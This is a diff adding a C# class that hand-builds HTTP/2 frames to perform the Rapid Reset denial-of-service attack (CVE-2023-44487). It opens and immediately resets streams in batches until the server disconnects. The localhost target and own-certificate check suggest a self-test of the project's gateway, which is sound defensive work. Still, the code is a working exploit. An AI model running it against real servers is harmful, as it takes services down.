@@ -1,0 +1,101 @@
+using System.Buffers.Binary;
+using System.Net.Security;
+using System.Net.Sockets;
+using System.Security.Authentication;
+using System.Text;
+
+namespace Cutout.Edge;
+
+/// <summary>
+/// HTTP/2 frames by hand: streams that are opened and reset at once, as many as the other side bears. A server that keeps
+/// something of each, or goes on working for it, is soon busy with nothing else (CVE-2023-44487).
+/// Source: RFC 9113, sections 4.1, 6.2 and 6.4; RFC 7541, appendix A.
+/// </summary>
+internal static class RapidReset
+{
+    private const int FrameHeader = 9;
+    private const byte HeadersFrame = 1;
+    private const byte ResetFrame = 3;
+    private const byte SettingsFrame = 4;
+    private const byte EndOfStreamAndHeaders = 0x5;
+    private const byte Cancel = 8;
+    private const int StreamsAtOnce = 50;
+
+    private static readonly byte[] Preface = Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
+
+    // ":method: GET", ":scheme: https", and literals without indexing for ":path" and ":authority".
+    private static readonly byte[] Request = [0x82, 0x87, .. Literal(0x04, "/v1/operations"), .. Literal(0x01, "gateway")];
+
+    /// <summary>How many streams were sent before the server hung up, or all of <paramref name="streams"/>.</summary>
+    public static async Task<int> RunAsync(Uri address, int streams, CancellationToken cancellationToken)
+    {
+        using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp);
+        await socket.ConnectAsync(address.Host, address.Port, cancellationToken);
+        await using var connection = new SslStream(new NetworkStream(socket));
+        await connection.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
+        {
+            TargetHost = "localhost",
+            ApplicationProtocols = [SslApplicationProtocol.Http2],
+            EnabledSslProtocols = SslProtocols.Tls12 | SslProtocols.Tls13,
+            RemoteCertificateValidationCallback = OwnCertificate.IsOwn,
+        }, cancellationToken);
+        await connection.WriteAsync((byte[])[.. Preface, .. Frame(SettingsFrame, 0, 0, [])], cancellationToken);
+        var reading = DrainAsync(connection);
+        var sent = 0;
+        try
+        {
+            while (sent < streams && !reading.IsCompleted)
+            {
+                await connection.WriteAsync(Streams(sent, Math.Min(StreamsAtOnce, streams - sent)), cancellationToken);
+                sent += StreamsAtOnce;
+            }
+        }
+        catch (IOException)
+        {
+            // The server has hung up.
+        }
+
+        return Math.Min(sent, streams);
+    }
+
+    private static byte[] Streams(int from, int count)
+    {
+        var bytes = new List<byte>();
+        for (var number = from; number < from + count; number++)
+        {
+            var stream = (2 * number) + 1;
+            bytes.AddRange(Frame(HeadersFrame, EndOfStreamAndHeaders, stream, Request));
+            bytes.AddRange(Frame(ResetFrame, 0, stream, [0, 0, 0, Cancel]));
+        }
+
+        return [.. bytes];
+    }
+
+    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
+    {
+        var frame = new byte[FrameHeader + payload.Length];
+        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
+        (frame[3], frame[4]) = (type, flags);
+        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
+        payload.CopyTo(frame, FrameHeader);
+        return frame;
+    }
+
+    private static byte[] Literal(byte name, string value) => [name, (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];
+
+    private static async Task DrainAsync(SslStream connection)
+    {
+        var buffer = new byte[16 * 1024];
+        try
+        {
+            while (await connection.ReadAsync(buffer) > 0)
+            {
+                // What it says doesn't matter; it must be able to say it.
+            }
+        }
+        catch (Exception end) when (end is IOException or ObjectDisposedException)
+        {
+            // Hung up, by either side.
+        }
+    }
+}
